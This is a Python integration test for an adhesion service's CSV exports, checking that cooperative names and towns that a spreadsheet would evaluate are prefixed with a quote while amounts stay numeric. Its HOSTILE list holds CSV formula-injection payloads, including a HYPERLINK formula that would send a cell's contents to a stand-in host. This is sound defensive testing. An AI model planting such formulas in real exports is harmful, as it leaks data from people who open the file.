"""The adhesion service's CSV exports (docs/campaign.md#5-the-campaign) are formula-safe,
on SQLite and PostgreSQL: a cooperative's name or town that a spreadsheet would evaluate
starts with ' (shared/csv_export.py), the amounts and counts stay numbers. The ledger's
export is checked in test_ledger_service.py."""
import csv
import io
from decimal import Decimal

from tests.integration.test_adhesion_api import YEAR, pay
from tests.integration.test_departments import import_file, invitations, link_of, number_of, token_of
from tests.support import GUIDE

HOSTILE = ['=HYPERLINK("http://exemple.invalid/?"&A1;"Coop")', "+1+1", "@SUM(1)", "-2+3"]


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200 and response.data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))


def test_adhesion_exports_neutralise_formulas_and_keep_numbers(client, app, staff):
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(["number", "name", "town", "email"])
    for i, text in enumerate(HOSTILE, start=1):
        writer.writerow([number_of(i), text, HOSTILE[-i], f"ce.038{i:04d}x@ac-grenoble.fr"])
    imported = import_file(client, staff, out.getvalue().encode("utf-8"))
    assert imported.status_code in (200, 201), imported.json
    # the first one validated and insured: it is in the insurer's declaration too
    url = next(link_of(e) for e in invitations(app) if e["data"]["login"] == number_of(1))
    client.post("/api/auth/password-reset/confirm", json={"token": token_of(url), "password": "ecole-mdp"})
    school = client.login(number_of(1), "ecole-mdp")
    path = f"/api/adhesion/adhesions/{number_of(1)}/{YEAR}"
    assert client.put(path, headers=school, json=GUIDE).status_code == 200
    assert client.post(f"{path}/submit", headers=school).status_code == 200
    pay(app, number_of(1), YEAR, "439.25")
    client.patch(f"{path}/checklist", headers=staff, json={"engagement_signed": True})
    assert client.post(f"{path}/validate", headers=staff).status_code == 200

    rows = rows_of(client.get(f"/api/adhesion/adhesions/export.csv?year={YEAR}", headers=staff))
    by_number = {row[0]: row for row in rows[1:]}
    for i, text in enumerate(HOSTILE, start=1):
        row = by_number[number_of(i)]
        assert (row[1], row[2]) == ("'" + text, "'" + HOSTILE[-i]), row
        assert row[3] == f"ce.038{i:04d}x@ac-grenoble.fr"
    validated = by_number[number_of(1)]
    assert validated[4] == "validée" and validated[6:9] == ["10", "165", "175"]
    assert validated[9:16] == ["395,50", "43,75", "0,00", "0,00", "439,25", "439,25", "26/0001 A"]
    assert by_number[number_of(2)][6:15] == ["0", "0", "0"] + ["0,00"] * 6  # not started: numbers still

    lines = rows_of(client.get(f"/api/adhesion/adhesions/declaration.csv?year={YEAR}", headers=staff))
    assert len(lines) == 2
    assert lines[1][:3] == [number_of(1), "'" + HOSTILE[0], "'" + HOSTILE[-1]]
    assert lines[1][4:] == ["175", "0,00", "0,00", "43,75"]
    assert Decimal(lines[1][-1].replace(",", ".")) == Decimal("43.75")
